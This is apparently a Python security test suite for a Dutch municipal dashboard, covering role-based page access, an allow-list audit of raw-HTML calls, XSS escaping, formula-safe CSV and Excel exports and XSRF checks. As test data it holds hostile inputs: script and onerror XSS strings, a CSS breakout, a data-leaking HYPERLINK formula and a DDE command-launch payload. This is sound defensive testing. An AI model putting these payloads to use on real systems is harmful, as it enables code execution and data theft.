"""Locked doors (issue #11): who may change data, and that what people type never acts as code.

- The entry page refuses anonymous users and viewers, also by direct URL, with no form at all; the admin part
  refuses editors (AppTest, and in headless Chromium against a live server: open /invoer without signing in,
  then sign in there as a viewer).
- No `unsafe_allow_html` / `st.html` call in the app is built from text we did not write or escape: every call
  site is on an explicit allow-list with its reason, interpolated values must be escaped, and the HTML builders
  they use are fed `<script>` to prove they escape it.
- Text typed by editors shows literally on screen (no markdown link or image, no HTML) and exports are
  formula-safe (a note `=HYPERLINK(...)` is exported as text).
- XSRF protection is on in the running server: a file upload without the token is refused.
"""
from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import requests

from texts.tables import to_csv_bytes, to_excel_bytes
from programs import auth, store
from programs.db import make_sessions, open_store
from programs.table import export_table
from programs.users import Account, add_user
from tests.conftest import CHART, ROOT, app_test, nav_link, start_streamlit
from tests.signin_helpers import app_cookie, sign_in_app  # noqa: F401  (fixture)
from ui.safe_text import WORD_JOINER

ENTRY = "views/invoer.py"
REFUSED = "Deze pagina is alleen voor invoerders. Log in als invoerder om tellingen toe te voegen of te corrigeren."
PASSWORDS = {"Vera": "wachtwoord van vera", "Anna": "wachtwoord van anna", "Beheer": "wachtwoord van beheer"}
HYPERLINK = '=HYPERLINK("https://elders.invalid/?d="&A1,"Klik")'
TYPED = "Jaarverslag [klik](https://elders.invalid) ![](https://elders.invalid/p.png) <img src=x onerror=alert(1)>"


@pytest.fixture
def store_dir(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    monkeypatch.delenv("DATABASE_URL", raising=False)
    monkeypatch.setenv("WIJKDASHBOARD_DB_DIR", str(tmp_path))
    engine = open_store(f"sqlite:///{tmp_path / 'programs.sqlite'}")
    with make_sessions(engine).begin() as s:
        add_user(s, "Vera", "viewer", PASSWORDS["Vera"], rounds=4)
        add_user(s, "Anna", "editor", PASSWORDS["Anna"], rounds=4)
    engine.dispose()
    return tmp_path


def _open(page: str, account: Account | None = None):
    at = app_test(timeout=120)
    if account is not None:
        sign_in_app(account)  # the cookie of a sign-in as this account (tests/signin_helpers.py)
    at.run()
    at.switch_page(page)
    at.run()
    assert not at.exception, at.exception
    return at


def _no_entry_form(at) -> None:
    assert not at.tabs and not at.file_uploader and not at.number_input and not at.date_input
    assert not [b for b in at.button if b.label in ("Telling opslaan", "Bevestig: tellingen opslaan")]


# --- refusals (AppTest) -----------------------------------------------------------------------------------------

def test_anonymous_users_get_a_refusal_and_no_form(mirror, store_dir):
    at = _open(ENTRY)
    assert [w.value for w in at.warning] == [REFUSED]
    _no_entry_form(at)
    assert [b.label for b in at.main.button] == ["Inloggen"], "only the sign-in form (the sidebar has its own)"


def test_a_signed_in_viewer_is_refused(mirror, store_dir):
    at = _open(ENTRY, Account("Vera", "viewer"))
    assert [w.value for w in at.warning] == [
        ("U bent ingelogd als Vera, maar dit account mag geen tellingen invoeren. Vraag een beheerder om de rol "
         "‘editor’.")]
    _no_entry_form(at)


def test_a_role_claimed_in_the_session_does_not_count(mirror, store_dir):
    """The role comes from the database on every run, not from what the session says."""
    at = _open(ENTRY, Account("Vera", "admin"))
    assert at.warning and at.warning[0].value.startswith("U bent ingelogd als Vera")
    _no_entry_form(at)
    at = _open(ENTRY, Account("Onbekend", "admin"))
    assert [w.value for w in at.warning] == [REFUSED]


def test_an_editor_cannot_use_the_admin_part(mirror, store_dir):
    at = _open(ENTRY, Account("Anna", "editor"))
    assert len(at.tabs) == 4
    assert "Alleen beheerders kunnen de hele database exporteren en accounts zien." in [i.value for i in at.info]
    assert not [b for b in at.get("download_button") if "entry_export" in (b.proto.id or "")]
    assert not [d for d in at.dataframe if "password" in d.value.columns]


# --- HTML on screen: every call site reviewed -------------------------------------------------------------------

SCANNED = ["app.py", "views", "ui", "presentation", "charts"]
ESCAPERS = {"html.escape", "esc", "json.dumps", "escape"}
# file -> (number of calls, reason per call, names trusted inside f-strings / arguments). Per file, not per
# function: code moves between functions; a new call in a file changes its count and must be reviewed here.
ALLOWED: dict[str, tuple[int, str, set[str]]] = {
    "views/kaart.py": (1, "map legend: views.kaart_panels.legend_html escapes every label", set()),
    "views/kaart_panels.py": (1, "ranked lists: charts.html_table.ranked_html escapes every cell and the caption", set()),
    "views/profiel.py": (3, ("key figures: charts.key_figures.key_figures_html escapes every label, value, note and "
                             "line; locator: locator_image, kept by ui.cache.built, is charts.locator.as_img, an "
                             "<img> of an SVG drawn from our geometry numbers and colours, alt text html.escape'd; "
                             "spine (trusted_html, unsanitised): "
                             "ui.cache.spine_chart is charts.spine_html.spine_block, which escapes every label, name, "
                             "cell, its caption and its sources line, and its legend (charts.spine.legend_html) names "
                             "and texts"),
                         {"locator_image", "cache.spine_chart"}),
    "views/vergelijk.py": (3, ("bivariate legend: `parts.legend` is GradientParts.legend, built by "
                               "views.vergelijk_panels.gradient_parts with charts.bivariate.legend_html, which "
                               "escapes titles and hints; the comparison and the classes' ranges: "
                               "charts.html_table.table_html escapes every header and cell"), {"parts.legend"}),
    "views/bronnen_panels.py": (2, ("the source tables: views.bronnen_panels.tables_html is "
                                    "charts.html_table.table_html of the catalogue's tables, which escapes every "
                                    "header and cell, a Link's text and URL too; the indicators' entries: "
                                    "definitions_html escapes every heading and renders the entries' markdown with "
                                    "HTML off (tests/test_bronnen: markup in a text shows as text)"),
                                {"tables_html", "definitions_html"}),
    "ui/page_scripts.py": (1, ("the sidebar closing after a link on a narrow screen: a constant script (one int "
                               "constant formatted in), nothing from a visitor"),
                           {"PAGE_SCRIPTS"}),
    "ui/a11y.py": (1, "<html lang>: a script with json.dumps of a code from LANGUAGES only", set()),
    "ui/widgets.py": (3, ("a short table as plain HTML (the profile's programs, typed by staff), and a grid's "
                          "static copy for print: charts.html_table.table_html escapes every header and cell; the "
                          "uploader's texts: ui.widgets.uploader_style writes our texts as CSS strings (css_string "
                          "escapes quotes, backslashes and '<')"),
                      set()),
    "ui/cookie.py": (1, "sign-in cookie: a script with json.dumps of our signed cookie value and a bool only", set()),
    "views/presentatie_panels.py": (
        8, ("hide_chrome: our own CSS constant (CSS); _key_numbers: "
            "`items` built from html.escape'd labels and values; show_slide: every slide text through html.escape, "
            "`sub` escaped, `counter` our text with two numbers, `parts` escaped quote/text blocks, "
            "`content.legend` the spine legend of presentation.data_slides._spine_legend (names html.escape'd), "
            "`content.phone_html` the profile slide's charts.spine_html.spine_html (every label, name and cell "
            "escaped)"),
        {"CSS", "items", "sub", "counter", "parts", "content.legend",
         "content.phone_html"}),
}
BUILDERS = {"legend_html", "ranked_html", "key_figures_html", "table_html", "uploader_style"}  # HTML builders, checked below with <script> in every text argument


def _calls() -> list[tuple[str, str, ast.Call]]:
    """Every st.html(...), trusted_html(...) and call with unsafe_allow_html=True / unsafe_allow_javascript=True."""
    found = []
    paths = []
    for entry in SCANNED:
        target = ROOT / entry
        paths += [target] if target.is_file() else sorted(p for p in target.rglob("*.py")
                                                          if "node_modules" not in p.parts)
    for path in paths:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        parents = {child: node for node in ast.walk(tree) for child in ast.iter_child_nodes(node)}
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            unsafe = any(k.arg in ("unsafe_allow_html", "unsafe_allow_javascript")
                         and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                         for k in node.keywords)
            is_html = isinstance(node.func, ast.Attribute) and node.func.attr == "html" and \
                ast.unparse(node.func.value) in ("st", "streamlit", "components", "st.components.v1") or \
                ast.unparse(node.func).split(".")[-1] == "trusted_html"  # ui/components/trusted_html: no sanitizer
            if not (unsafe or is_html):
                continue
            scope, up = "<module>", parents.get(node)
            while up is not None:
                if isinstance(up, (ast.FunctionDef, ast.AsyncFunctionDef)):
                    scope = up.name
                    break
                up = parents.get(up)
            found.append((path.relative_to(ROOT).as_posix(), scope, node))
    return found


def _unsafe_parts(node: ast.AST, trusted: set[str]) -> list[str]:
    """What in an HTML argument is neither our constant text, an escaped value, a trusted name nor a builder."""
    if isinstance(node, ast.Constant):
        return []
    if isinstance(node, ast.JoinedStr):
        return [p for value in node.values for p in _unsafe_parts(value, trusted)]
    if isinstance(node, ast.FormattedValue):
        return _unsafe_parts(node.value, trusted)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _unsafe_parts(node.left, trusted) + _unsafe_parts(node.right, trusted)
    if isinstance(node, ast.Call):
        name = ast.unparse(node.func)
        if name == "cache.built" and node.args and isinstance(node.args[-1], ast.Lambda):
            return _unsafe_parts(node.args[-1].body, trusted)  # what it keeps is what its builder returns
        if name in ESCAPERS or name.split(".")[-1] in BUILDERS or name in trusted:
            return []
        if name.endswith(".join") and isinstance(node.func, ast.Attribute) and \
                isinstance(node.func.value, ast.Constant):
            return [p for arg in node.args for p in _unsafe_parts(arg, trusted)]
        return [name]
    text = ast.unparse(node)
    return [] if text in trusted else [text]


def test_every_html_call_site_is_reviewed_and_escapes_what_it_shows():
    seen: dict[str, int] = {}
    problems = []
    for path, scope, call in _calls():
        key = path
        seen[key] = seen.get(key, 0) + 1
        if key not in ALLOWED:
            problems.append(f"{path}:{call.lineno} ({scope}): not on the allow-list: {ast.unparse(call)[:120]}")
            continue
        trusted = ALLOWED[key][2]
        for arg in call.args[:1]:
            bad = _unsafe_parts(arg, trusted)
            if bad:
                problems.append(f"{path}:{call.lineno} ({scope}): not escaped: {bad}")
    for key, (count, reason, _) in ALLOWED.items():
        assert reason, key
        if seen.get(key, 0) != count:
            problems.append(f"{key}: {seen.get(key, 0)} calls, the allow-list says {count} (review and update it)")
    assert not problems, "\n".join(problems)


def test_the_compare_pages_legend_is_the_escaping_builders_output():
    """The allow-list trusts `parts.legend` on /vergelijk: it must be what charts.bivariate.legend_html returns."""
    tree = ast.parse((ROOT / "views" / "vergelijk_panels.py").read_text(encoding="utf-8"))
    legends = [kw.value for node in ast.walk(tree) if isinstance(node, ast.Call) and ast.unparse(node.func) == "GradientParts"
               for kw in node.keywords if kw.arg == "legend"]
    assert len(legends) == 1 and isinstance(legends[0], ast.Call) and ast.unparse(legends[0].func) == "legend_html"


def test_the_phone_spine_of_a_slide_is_the_escaping_builders_output():
    """The allow-list trusts `content.phone_html` on /presentatie: every slide that sets it sets charts.spine_html's
    spine_html, whose escaping the test below checks."""
    tree = ast.parse((ROOT / "presentation" / "data_slides.py").read_text(encoding="utf-8"))
    values = [kw.value for node in ast.walk(tree) if isinstance(node, ast.Call) and ast.unparse(node.func) == "SlideContent"
              for kw in node.keywords if kw.arg == "phone_html"]
    assert len(values) == 1 and isinstance(values[0], ast.Call) and ast.unparse(values[0].func) == "spine_html"
    for path in (ROOT / "presentation").glob("*.py"):
        if path.name != "data_slides.py":
            assert "phone_html" not in path.read_text(encoding="utf-8").replace("phone_html: str", ""), path


def test_the_html_builders_escape_every_text(mirror):
    from charts.bivariate import legend_html as bivariate_legend
    from charts.key_figures import Figure, key_figures_html
    from charts.spine_html import spine_block, spine_html
    from indicators.catalogue import catalogue
    from ui import cache
    from charts.spine import legend_html as spine_legend
    from views.kaart_panels import legend_html as map_legend
    from charts.html_table import ranked_html
    from charts.html_table import table_html

    evil = "<script>alert(1)</script>"
    outputs = [
        map_legend([((1, 2, 3), evil)], evil, evil),
        ranked_html(pd.DataFrame({evil: [evil], evil + " ": [evil], evil + "  ": [evil]}), evil),
        spine_legend("wijk", "buurt", evil, evil, "nl"),
        bivariate_legend({"1-1": 3}, evil, evil, evil, evil, evil, 1),
        spine_block(cache.spine("GM0518", "WK051836", "18plus"), catalogue(), "nl", evil, evil),
        spine_html(cache.spine("GM0518", "WK051836", "18plus"), catalogue(), "en", evil, evil),
        key_figures_html([Figure(evil, evil, evil)], [evil]),
        table_html(pd.DataFrame({evil: [evil], f'a"{evil}': [evil]})),  # a header in an attribute too
    ]
    for out in outputs:
        assert "<script" not in out and "&lt;script&gt;" in out


def test_the_uploaders_style_keeps_its_texts_inside_their_css_strings():
    """uploader_style puts texts into a <style>: a text cannot close the string, the rule or the element."""
    from ui.widgets import css_string, uploader_style

    evil = '"} body {display: none} </style><script>alert(1)</script>\\'
    out = uploader_style("k", evil, evil)
    assert out.count("<") == 2 and out.startswith("<style>") and out.endswith("</style>")  # its own tags only
    assert out.count(css_string(evil)) == 2 and '"' not in css_string(evil)[1:-1]
    assert css_string('a"b\\c<d\ne') == '"a\\22 b\\5c c\\3c d\\a e"'


def test_no_user_text_in_an_html_call_of_the_entry_and_programs_pages():
    for path in ("views/invoer.py", "views/programmas.py", "views/invoer_panels.py", "views/programmas_panels.py", "ui/store.py",
                 "ui/auth.py"):
        assert "unsafe_allow_html" not in (ROOT / path).read_text(encoding="utf-8")
        assert "st.html(" not in (ROOT / path).read_text(encoding="utf-8")


# --- exports: formula-safe --------------------------------------------------------------------------------------

@pytest.mark.parametrize("note", [HYPERLINK, "+31 70 123 4567", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_a_count_whose_note_is_a_formula_is_exported_as_text(tmp_path, note):
    engine = open_store(f"sqlite:///{tmp_path / 'programs.sqlite'}")
    sessions = make_sessions(engine)
    with sessions.begin() as s:
        new_id = store.add_count(s, {"program": "gli", "area": "GM0518", "period_start": dt.date(2024, 1, 1),
                                     "period_end": dt.date(2024, 12, 31), "value_low": 10, "source": HYPERLINK,
                                     "note_nl": note}, "=cmd|' /C calc'!A0").id
    with sessions() as s:
        frame = store.list_counts(s)
    engine.dispose()
    table = export_table(frame[frame["count_id"] == new_id], "nl", {})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(table).decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row))
    for value in cells.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), cells
    assert cells["Toelichting"] == "'" + note.strip() and cells["Bron"] == "'" + HYPERLINK  # the store strips
    book = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(table, "tellingen")))
    sheet = book.active
    values = [c.value for c in sheet[2]]
    assert "'" + note.strip() in values and "'" + HYPERLINK in values
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), "no formula cells"


@pytest.mark.parametrize("text,safe", [("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r'=1+1"), ("=1+1", "'=1+1"),
                                       ("@x", "'@x"), ("+1", "'+1"), ("-1", "'-1")])
def test_export_cells_starting_like_a_formula_get_a_quote(text, safe):
    """OWASP's list for CSV injection includes a leading tab and carriage return; the line after a CR is guarded
    too (issue #21)."""
    import pandas as pd

    from texts.tables import safe_frame

    assert safe_frame(pd.DataFrame({"a": [text]}))["a"].iloc[0] == safe


# --- in the browser: direct URLs, a viewer, what editors typed, XSRF -------------------------------------------

@pytest.fixture(scope="module")
def doors_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("doors-db")
    engine = open_store(f"sqlite:///{folder / 'programs.sqlite'}")
    with make_sessions(engine).begin() as s:
        add_user(s, "Vera", "viewer", PASSWORDS["Vera"], rounds=auth.BCRYPT_ROUNDS)
        add_user(s, "Anna", "editor", PASSWORDS["Anna"], rounds=auth.BCRYPT_ROUNDS)
        store.add_count(s, {"program": "gli", "area": "GM0518", "period_start": dt.date(2024, 1, 1),
                            "period_end": dt.date(2024, 12, 31), "value_low": 5000, "source": TYPED}, "Anna")
    engine.dispose()
    proc, url = start_streamlit(env={"WIJKDASHBOARD_DB_DIR": str(folder), "DATABASE_URL": ""})
    yield url
    proc.terminate()
    proc.wait(timeout=10)


def _idle(page) -> None:
    page.wait_for_selector("[data-testid='stApp'][data-test-script-state='notRunning']", timeout=90_000)


@pytest.mark.browser
def test_direct_url_to_invoer_refuses_anonymous_and_viewers(page, doors_server, artifacts):
    page.goto(f"{doors_server}/invoer")
    page.wait_for_selector(f"text={REFUSED}", timeout=90_000)
    _idle(page)
    assert page.locator("[data-testid='stFileUploader']").count() == 0
    assert page.get_by_role("tab").count() == 0
    assert page.get_by_role("button", name="Telling opslaan").count() == 0
    assert nav_link(page, "invoer").count() == 0
    page.screenshot(path=str(artifacts / "locked_invoer_anonymous.png"), full_page=True)
    # a viewer signs in right there, on the refused page
    page.get_by_label("Naam").fill("Vera")
    page.get_by_label("Wachtwoord", exact=True).fill(PASSWORDS["Vera"])
    page.get_by_role("button", name="Inloggen").click()
    page.wait_for_selector("text=U bent ingelogd als Vera, maar dit account mag geen tellingen invoeren",
                           timeout=60_000)
    _idle(page)
    assert page.locator("[data-testid='stFileUploader']").count() == 0 and page.get_by_role("tab").count() == 0
    assert nav_link(page, "invoer").count() == 0, "still hidden"
    page.screenshot(path=str(artifacts / "locked_invoer_viewer.png"), full_page=True)


@pytest.mark.browser
def test_what_an_editor_typed_shows_as_text(page, doors_server):
    page.goto(f"{doors_server}/programmas")
    page.wait_for_selector(CHART, timeout=90_000)
    _idle(page)
    captions = [c.replace(WORD_JOINER, "") for c in page.locator("[data-testid='stCaptionContainer']").all_inner_texts()]
    assert any(TYPED in c for c in captions), captions
    # No link and no image comes out of typed text, not even a bare address (ui.safe_text).
    assert page.locator("a[href*='elders.invalid']").count() == 0, "no link from typed text"
    assert page.locator("img[src*='elders.invalid'], img[src='x']").count() == 0, "no image from typed text"


@pytest.mark.browser
def test_xsrf_protection_refuses_an_upload_without_its_token(doors_server):
    response = requests.put(f"{doors_server}/_stcore/upload_file/session/file",
                            files={"file": ("x.csv", b"program;area\n", "text/csv")}, timeout=10)
    assert response.status_code == 403 and "xsrf" in response.text.lower(), (response.status_code, response.text)
